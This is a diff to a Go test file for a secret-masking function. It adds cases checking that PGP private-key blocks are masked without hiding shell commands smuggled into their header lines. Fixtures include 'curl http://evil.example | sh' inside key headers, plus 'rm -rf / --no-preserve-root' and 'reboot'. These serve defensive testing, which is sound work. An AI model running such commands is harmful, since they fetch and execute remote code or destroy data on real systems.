@@ -207,6 +207,8 @@ func TestPrivateKeyBlockHidesNoCommand(t *testing.T) {
 			"rm -rf / --no-preserve-root and more words to pass sixty-four"},
 		"-----BEGIN RSA PRIVATE KEY-----\n" + body + "\nProc-Type: 4,ENCRYPTED; curl http://evil.example | sh\n-----END RSA PRIVATE KEY-----": {
 			"Proc-Type: 4,ENCRYPTED; curl http://evil.example | sh"},
+		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nComment: x; curl http://evil.example | sh\n\n" + body + "\n-----END PGP PRIVATE KEY BLOCK-----": {
+			"Comment: x; curl http://evil.example | sh"},
 		"true -----BEGIN PRIVATE KEY-----\nreboot\n                                                            \n-----END PRIVATE KEY-----": {"reboot"},
 		"-----BEGIN PRIVATE KEY-----\nrm\n-rf\n/\n" + body + "\n-----END PRIVATE KEY-----":                                                  {"\nrm\n-rf\n/\n"},
 		`"-----BEGIN PRIVATE KEY-----\n` + body + `\nrm -rf / --no-preserve-root\n-----END PRIVATE KEY-----"`:                               {`\nrm -rf / --no-preserve-root\n`},
@@ -229,6 +231,7 @@ func TestPrivateKeyBlockHidesNoCommand(t *testing.T) {
 		`{"key": "-----BEGIN PRIVATE KEY-----\n` + body + `\n` + body[:30] + `\n-----END PRIVATE KEY-----"}`,
 		"KEY=-----BEGIN PRIVATE KEY----- " + body + " " + body + " " + body[:10] + " -----END PRIVATE KEY-----",
 		"-----BEGIN EC PRIVATE KEY-----" + body + body + "-----END EC PRIVATE KEY-----",
+		"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\nComment: backup (2026)\n\n" + body + "\n" + body[:9] + "\n=x4Tq\n-----END PGP PRIVATE KEY BLOCK-----",
 	} {
 		got := Mask(in)
 		if marks := markerRE.FindAllString(got, -1); len(marks) != 1 || !strings.HasPrefix(marks[0], "[secret:private-key ") || strings.Contains(got, "BEGIN") {
